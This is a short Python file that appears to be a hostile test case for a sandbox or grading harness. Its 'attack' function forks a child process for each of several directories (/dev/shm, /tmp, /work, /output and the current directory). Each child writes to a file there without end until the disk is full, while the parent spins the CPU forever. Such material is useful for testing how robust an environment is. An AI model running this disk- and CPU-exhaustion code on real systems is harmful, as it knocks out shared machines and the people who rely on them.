"""Fills every file system that it can write to, from several processes, and keeps on."""
# ends: error|memory|timeout

import os


def attack(honest, *args, **kwargs):
    for folder in ("/dev/shm", "/work", "/tmp", "/output", os.getcwd()):
        if os.fork() == 0:
            with open(f"{folder}/{MARK}", "wb", buffering=0) as file:
                while True:
                    file.write(bytes(1 << 20))
    while True:
        pass
